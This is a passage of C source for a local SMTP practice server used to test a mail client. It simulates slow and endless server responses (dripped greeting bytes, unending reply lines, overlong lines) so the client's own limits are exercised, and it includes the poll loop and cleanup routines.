/* One tick of what slow-and-endless connections send: a byte of the
 * greeting, or another burst of reply lines, or more of a line with no end.
 * The client's own limits and deadlines must end these, not the server. */
static void
flood_tick(struct sf_lab *lab)
{
	static const char greeting[] = "220 " SF_LAB_HOST " ESMTP smtpfix practice server\r\n";
	char burst[2048];
	size_t i;

	for (i = 0; i < lab->nconns; i++) {
		struct conn *c = &lab->conns[i];

		if (c->flood == FLOOD_DRIP && c->dripped < sizeof greeting - 1) {
			char one[2] = { greeting[c->dripped++], '\0' };

			write_all(c, one, 1, 0);
		} else if (c->flood == FLOOD_LINES) {
			size_t n = 0;

			while (n + 40 < sizeof burst)
				n += (size_t)snprintf(burst + n, sizeof burst - n,
					"250-ENDLESS-%08zu\r\n", c->dripped++);
			write_all(c, burst, strlen(burst), 0);
		} else if (c->flood == FLOOD_LONG_LINE) {
			memset(burst, c->dripped++ == 0 ? '2' : 'A', sizeof burst - 1);
			burst[sizeof burst - 1] = '\0';
			if (c->dripped == 1)
				memcpy(burst, "220 ", 4);
			write_all(c, burst, strlen(burst), 0);
		}
	}
}

void
sf_lab_run(struct sf_lab *lab, atomic_bool *stop)
{
	while (stop == NULL || !atomic_load(stop)) {
		struct pollfd fds[NROLES + SF_LAB_MAX_CONN];
		size_t n = 0, i;
		int r;

		for (r = 0; r < NROLES; r++) {
			fds[n].fd = lab->listen_fd[r];
			fds[n].events = POLLIN;
			fds[n++].revents = 0;
		}
		for (i = 0; i < lab->nconns; i++) {
			fds[n].fd = lab->conns[i].fd;
			fds[n].events = lab->conns[i].handshaking ? lab->conns[i].want : POLLIN;
			fds[n++].revents = 0;
		}
		r = poll(fds, n, floods(lab) ? 100 : 200);
		if (floods(lab))
			flood_tick(lab);
		/* Connections, from the end so closing one keeps the others'
		 * places: those with something to do, the dead, and the idle. */
		for (i = n; i-- > NROLES;) {
			size_t k = i - NROLES;
			struct conn *c = &lab->conns[k];
			bool keep = true;

			if (k >= lab->nconns || c->fd != fds[i].fd)
				continue;
			if (fds[i].revents != 0) {
				c->last_active = time(NULL);
				keep = c->handshaking ? handshake_step(lab, c) : serve(lab, c);
			}
			if (!keep || c->dead || time(NULL) - c->last_active > IDLE_MAX_S)
				close_conn(lab, c);
		}
		for (r = 0; r < NROLES; r++)
			if (fds[r].revents & POLLIN)
				accept_on(lab, (enum role)r);
	}
}

void
sf_lab_free(struct sf_lab *lab)
{
	int r;

	if (lab == NULL)
		return;
	while (lab->nconns > 0)
		close_conn(lab, &lab->conns[lab->nconns - 1]);
	for (r = 0; r < NROLES; r++)
		if (lab->listen_fd[r] >= 0)
			close(lab->listen_fd[r]);
	sf_lab_remove_files(lab);
	sf_tls_server_free(lab->tls);
	sf_tls_cert_free(&lab->ca);
	sf_tls_cert_free(&lab->leaf);
	free(lab);
}

void
sf_lab_remove_files(const struct sf_lab *lab)
{
	if (lab == NULL)
		return;
	if (lab->ca_path[0] != '\0')
		unlink(lab->ca_path);
	if (lab->dir[0] != '\0')
		rmdir(lab->dir);
}
